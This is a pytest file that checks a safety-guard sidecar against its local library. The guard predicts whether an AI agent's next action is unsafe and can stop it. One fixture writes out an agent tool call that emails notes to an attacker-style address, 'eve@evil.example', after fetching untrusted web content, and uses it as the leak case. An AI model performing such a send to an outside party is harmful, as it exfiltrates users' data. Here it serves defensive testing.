"""The sidecar reads a step's action as the library does: predicates on ``action`` in observe,
preview, batches and proposals (a real uvicorn on loopback)."""
from __future__ import annotations

import math
from pathlib import Path
from typing import Any

import orjson
import pytest

from _sidecar import KEYS, ServerThread, settings
from forewarn.guard import Guard
from forewarn.guard.client import Client
from forewarn.guard.pipeline import learn_model
from forewarn.guard.spec import parse_spec

SPEC = """\
name: mail
predicates:
  fetched: '"untrusted_source" in action.classes'
  mails_out: 'action.kind == "email_send" && "external" in action.classes'
  leaked: 'state.leaked'
unsafe: 'leaked'
learning: {alpha: 0.1, shrink: 'off', intervals: none}
guard: {thresholds: {stop: 0.2}}
"""
FETCH = {"tool": "http_get", "args": {"url": "https://web.example/page"}}
MAIL_OUT: dict[str, Any] = {"tool": "send_email", "args": {"to": "eve@evil.example", "body": "notes"}}
MAIL_IN = {"tool": "send_email", "args": {"to": "bob@corp.example", "body": "notes"}}


def _runs() -> list[dict[str, Any]]:
    runs = []
    for i in range(6):  # a fetch, then a mail out that leaks in half the runs
        leaked = i % 2 == 0
        runs.append({"id": f"f{i}", "steps": [{"state": {"leaked": False}},
                                              {"state": {"leaked": False}, "action": FETCH},
                                              {"state": {"leaked": leaked}, "action": MAIL_OUT}]})
    for i in range(6):
        runs.append({"id": f"q{i}", "steps": [{"state": {"leaked": False}},
                                              {"state": {"leaked": False}, "action": MAIL_IN}]})
    return runs


@pytest.fixture(scope="module")
def mail_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("mail")
    traces = folder / "runs.jsonl"
    traces.write_text("\n".join(orjson.dumps(r).decode() for r in _runs()) + "\n", encoding="utf-8")
    return learn_model([traces], parse_spec(SPEC)).save(folder / "mail.json")


def test_sidecar_reads_actions_as_the_library(tmp_path: Path, mail_model: Path) -> None:
    local = Guard.load(mail_model).session()
    with ServerThread(settings(tmp_path / "db.sqlite", {"mail": mail_model})) as server, \
            Client(server.url, api_key=KEYS["agent"]) as agent:
        remote = agent.session(model="mail")
        for state, action in (({"leaked": False}, None), ({"leaked": False}, FETCH)):
            expected_ahead = local.preview({"leaked": False}, action=MAIL_OUT)
            ahead = remote.preview({"leaked": False}, action=MAIL_OUT)
            assert ahead.abstract_state == expected_ahead.abstract_state == {"fetched": False, "mails_out": True,
                                                                             "leaked": False}
            assert ahead.p_unsafe is not None and expected_ahead.p_unsafe is not None
            assert math.isclose(ahead.p_unsafe, expected_ahead.p_unsafe)
            expected = local.observe(state, action=action)
            got = remote.observe(state, action=action)
            assert got.p_unsafe is not None and expected.p_unsafe is not None
            assert got.abstract_state == expected.abstract_state and math.isclose(got.p_unsafe, expected.p_unsafe)
        assert got.abstract_state["fetched"]
        batch = agent.batch([{"session": remote.id, "op": "preview", "state": {"leaked": False}, "action": MAIL_IN}])
        assert batch[0].abstract_state == {"fetched": False, "mails_out": False, "leaked": False}
        proposal = remote.propose("send_email", MAIL_OUT["args"], {"leaked": False})
        assert proposal["decision"]["abstract_state"]["mails_out"] is True


MEMORY_SPEC = """\
name: household
predicates:
  hot: 'state.hot'
unsafe: 'hot'
learning: {alpha: 0.0, shrink: 'off', intervals: none, memory: {actions: 2, backoff: 1.0}}
guard: {thresholds: {stop: 0.5}, unseen_state: allow}
"""


@pytest.fixture(scope="module")
def memory_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("memory")
    cold, hot = {"hot": False}, {"hot": True}
    runs = ([{"steps": [{"state": cold}, {"state": cold, "action": "pick Phone"},
                        {"state": hot, "action": "find Bowl"}]}] * 3
            + [{"steps": [{"state": cold}, {"state": cold, "action": "pick Phone"},
                          {"state": cold, "action": "look"}]}]
            + [{"steps": [{"state": cold}, {"state": cold, "action": "look"}]}] * 4)
    traces = folder / "runs.jsonl"
    traces.write_bytes(b"\n".join(orjson.dumps({"id": f"r{i}", **r}) for i, r in enumerate(runs)) + b"\n")
    return learn_model([traces], parse_spec(MEMORY_SPEC)).save(folder / "household.json")


def test_sidecar_advances_action_memory_as_the_library(tmp_path: Path, memory_model: Path) -> None:
    """Observe and preview remember the step's action; a session evicted from memory (a cache of one)
    resumes from its stored memory state."""
    local = Guard.load(memory_model).session()
    steps = [({"hot": False}, None), ({"hot": False}, "pick Phone"), ({"hot": False}, "look"),
             ({"hot": False}, "pick Phone")]  # the last history (pick, look) was never seen: the fallback decides
    actions = []
    with ServerThread(settings(tmp_path / "db.sqlite", {"household": memory_model}, session_cache=1)) as server, \
            Client(server.url, api_key=KEYS["agent"]) as agent:
        remote, other = agent.session(model="household"), agent.session(model="household")
        for state, action in steps:
            for proposed in ("pick Phone", "look", "find Bowl"):
                expected = local.preview(state, action=proposed)
                got = remote.preview(state, action=proposed)
                assert got.p_unsafe == pytest.approx(expected.p_unsafe, abs=1e-12)
            expected = local.observe(state, action=action)
            got = remote.observe(state, action=action)
            assert got.p_unsafe == pytest.approx(expected.p_unsafe, abs=1e-12) and got.action is expected.action
            actions.append(got.action.value)
            other.observe({"hot": False})  # evicts `remote`: its next step resumes from the database
        assert actions == ["allow", "stop", "allow", "allow"]  # stop right after picking the phone
